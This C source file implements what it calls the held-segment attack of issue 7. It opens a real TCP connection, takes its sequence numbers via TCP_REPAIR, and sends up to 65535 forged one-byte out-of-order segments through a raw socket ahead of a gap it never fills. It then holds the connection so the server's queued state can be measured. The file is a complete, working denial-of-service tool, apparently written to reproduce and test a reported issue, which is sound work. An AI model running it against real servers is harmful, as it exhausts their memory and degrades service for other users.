/*
 * ooo_segments: a client that opens a real TCP connection, then sends many
 * one-byte segments ahead of a one-byte gap on it through a raw socket, the
 * held-segment attack of issue 7.  The kernel socket keeps the connection
 * alive (it answers the server's ACKs); its sequence numbers come from
 * TCP_REPAIR, so the forged segments are in window.
 *
 *   ooo_segments [-d] [-n COUNT] [-b BURST] [-g MICROSECONDS] [-t SECONDS]
 *                ADDR PORT
 *
 * -n segments (default 65535) at stream offsets 1..COUNT (offset 0, the
 * gap, is never sent), ascending or with -d descending; -b/-g pace them,
 * BURST segments then a pause (default 64, 500 us), so that a queue
 * reading them is not overrun; -t keeps the connection that long after
 * the last one (default 10 s) so its state can be measured, then closes
 * it with a RST (nothing is left behind).  Prints one JSON line
 * {"event": "sent", ...} after the last segment; exit 0, or 1 with a
 * message on stderr.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

struct peer {
	int family;
	struct sockaddr_storage local, remote;
	socklen_t len;
	uint32_t snd_nxt, rcv_nxt, server_window;
};

static int fail(const char *what)
{
	fprintf(stderr, "ooo_segments: %s: %s\n", what, strerror(errno));
	return 1;
}

static void sleep_us(long us)
{
	struct timespec ts = { us / 1000000, (us % 1000000) * 1000 };

	nanosleep(&ts, NULL);
}

static uint32_t sum16(const uint8_t *p, size_t len, uint32_t sum)
{
	for (size_t i = 0; i + 1 < len; i += 2)
		sum += (uint32_t)(p[i] << 8 | p[i + 1]);
	if (len & 1)
		sum += (uint32_t)p[len - 1] << 8;
	return sum;
}

/* The TCP checksum over the pseudo header of either family. */
static uint16_t tcp_checksum(const struct peer *c, const uint8_t *seg,
			     size_t len)
{
	uint8_t pseudo[40];
	size_t n;
	uint32_t sum;

	memset(pseudo, 0, sizeof(pseudo));
	if (c->family == AF_INET) {
		memcpy(pseudo, &((const struct sockaddr_in *)&c->local)->sin_addr, 4);
		memcpy(pseudo + 4, &((const struct sockaddr_in *)&c->remote)->sin_addr, 4);
		pseudo[9] = IPPROTO_TCP;
		pseudo[10] = (uint8_t)(len >> 8);
		pseudo[11] = (uint8_t)len;
		n = 12;
	} else {
		memcpy(pseudo, &((const struct sockaddr_in6 *)&c->local)->sin6_addr, 16);
		memcpy(pseudo + 16, &((const struct sockaddr_in6 *)&c->remote)->sin6_addr, 16);
		pseudo[34] = (uint8_t)(len >> 8);
		pseudo[35] = (uint8_t)len;
		pseudo[39] = IPPROTO_TCP;
		n = 40;
	}
	sum = sum16(seg, len, sum16(pseudo, n, 0));
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

static uint16_t port_of(const struct sockaddr_storage *ss)
{
	return ss->ss_family == AF_INET ?
		((const struct sockaddr_in *)ss)->sin_port :
		((const struct sockaddr_in6 *)ss)->sin6_port;
}

/* A segment of this connection: flags, seq, payload. */
static int send_segment(int raw, const struct peer *c, uint8_t flags,
			uint32_t seq, const uint8_t *data, size_t len)
{
	uint8_t seg[20 + 1];
	uint16_t sum, sport = port_of(&c->local), dport = port_of(&c->remote);
	struct sockaddr_storage to = c->remote;

	memset(seg, 0, sizeof(seg));
	memcpy(seg, &sport, 2);
	memcpy(seg + 2, &dport, 2);
	seg[4] = (uint8_t)(seq >> 24), seg[5] = (uint8_t)(seq >> 16);
	seg[6] = (uint8_t)(seq >> 8), seg[7] = (uint8_t)seq;
	seg[8] = (uint8_t)(c->rcv_nxt >> 24), seg[9] = (uint8_t)(c->rcv_nxt >> 16);
	seg[10] = (uint8_t)(c->rcv_nxt >> 8), seg[11] = (uint8_t)c->rcv_nxt;
	seg[12] = 5 << 4;
	seg[13] = flags;
	seg[14] = 0xff, seg[15] = 0xff;
	memcpy(seg + 20, data, len);
	sum = htons(tcp_checksum(c, seg, 20 + len));
	memcpy(seg + 16, &sum, 2);
	/* a raw socket wants no port in its destination */
	if (to.ss_family == AF_INET)
		((struct sockaddr_in *)&to)->sin_port = 0;
	else
		((struct sockaddr_in6 *)&to)->sin6_port = 0;
	for (;;) {
		if (sendto(raw, seg, 20 + len, 0, (struct sockaddr *)&to,
			   c->len) >= 0)
			return 0;
		if (errno != ENOBUFS && errno != EAGAIN)
			return -1;
		sleep_us(1000);	/* the device queue is full: wait for it */
	}
}

/* The connection's next sequence numbers and the server's window. */
static int read_sequence(int fd, struct peer *c)
{
	int on = TCP_REPAIR_ON, off = TCP_REPAIR_OFF_NO_WP, q;
	struct tcp_repair_window w;
	socklen_t len = sizeof(uint32_t);

	if (setsockopt(fd, IPPROTO_TCP, TCP_REPAIR, &on, sizeof(on)) < 0)
		return -1;
	q = TCP_SEND_QUEUE;
	if (setsockopt(fd, IPPROTO_TCP, TCP_REPAIR_QUEUE, &q, sizeof(q)) < 0 ||
	    getsockopt(fd, IPPROTO_TCP, TCP_QUEUE_SEQ, &c->snd_nxt, &len) < 0)
		return -1;
	q = TCP_RECV_QUEUE;
	len = sizeof(uint32_t);
	if (setsockopt(fd, IPPROTO_TCP, TCP_REPAIR_QUEUE, &q, sizeof(q)) < 0 ||
	    getsockopt(fd, IPPROTO_TCP, TCP_QUEUE_SEQ, &c->rcv_nxt, &len) < 0)
		return -1;
	len = sizeof(w);
	if (getsockopt(fd, IPPROTO_TCP, TCP_REPAIR_WINDOW, &w, &len) < 0)
		return -1;
	c->server_window = w.snd_wnd;
	return setsockopt(fd, IPPROTO_TCP, TCP_REPAIR, &off, sizeof(off));
}

int main(int argc, char **argv)
{
	long count = 65535, burst = 64, gap_us = 500, hold_s = 10;
	bool descending = false;
	struct peer c;
	int opt, fd, raw;
	uint8_t byte = 'x';

	while ((opt = getopt(argc, argv, "dn:b:g:t:")) != -1) {
		switch (opt) {
		case 'd': descending = true; break;
		case 'n': count = atol(optarg); break;
		case 'b': burst = atol(optarg); break;
		case 'g': gap_us = atol(optarg); break;
		case 't': hold_s = atol(optarg); break;
		default: goto usage;
		}
	}
	if (argc - optind != 2 || count < 1 || burst < 1 || gap_us < 0)
		goto usage;
	memset(&c, 0, sizeof(c));
	if (inet_pton(AF_INET, argv[optind],
		      &((struct sockaddr_in *)&c.remote)->sin_addr) == 1) {
		c.family = AF_INET;
		c.len = sizeof(struct sockaddr_in);
		((struct sockaddr_in *)&c.remote)->sin_port = htons((uint16_t)atoi(argv[optind + 1]));
	} else if (inet_pton(AF_INET6, argv[optind],
			     &((struct sockaddr_in6 *)&c.remote)->sin6_addr) == 1) {
		c.family = AF_INET6;
		c.len = sizeof(struct sockaddr_in6);
		((struct sockaddr_in6 *)&c.remote)->sin6_port = htons((uint16_t)atoi(argv[optind + 1]));
	} else {
		goto usage;
	}
	c.remote.ss_family = (sa_family_t)c.family;

	fd = socket(c.family, SOCK_STREAM, 0);
	if (fd < 0 || connect(fd, (struct sockaddr *)&c.remote, c.len) < 0)
		return fail("connect");
	if (getsockname(fd, (struct sockaddr *)&c.local, &(socklen_t){ sizeof(c.local) }) < 0)
		return fail("getsockname");
	if (read_sequence(fd, &c) < 0)
		return fail("TCP_REPAIR");
	raw = socket(c.family, SOCK_RAW, IPPROTO_TCP);
	if (raw < 0)
		return fail("raw socket");

	for (long i = 0; i < count; i++) {
		uint32_t off = (uint32_t)(descending ? count - i : i + 1);

		if (send_segment(raw, &c, 0x18 /* PSH ACK */, c.snd_nxt + off,
				 &byte, 1) < 0)
			return fail("sendto");
		if ((i + 1) % burst == 0 && gap_us)
			sleep_us(gap_us);
	}
	printf("{\"event\": \"sent\", \"segments\": %ld, \"order\": \"%s\", "
	       "\"server_window\": %u}\n", count,
	       descending ? "descending" : "ascending", c.server_window);
	fflush(stdout);
	sleep((unsigned)hold_s);
	/* the gap never came: end it cleanly for everyone in between */
	send_segment(raw, &c, 0x04 /* RST */, c.snd_nxt, NULL, 0);
	close(fd);
	return 0;
usage:
	fprintf(stderr, "usage: ooo_segments [-d] [-n COUNT] [-b BURST] "
		"[-g MICROSECONDS] [-t SECONDS] ADDR PORT\n");
	return 1;
}
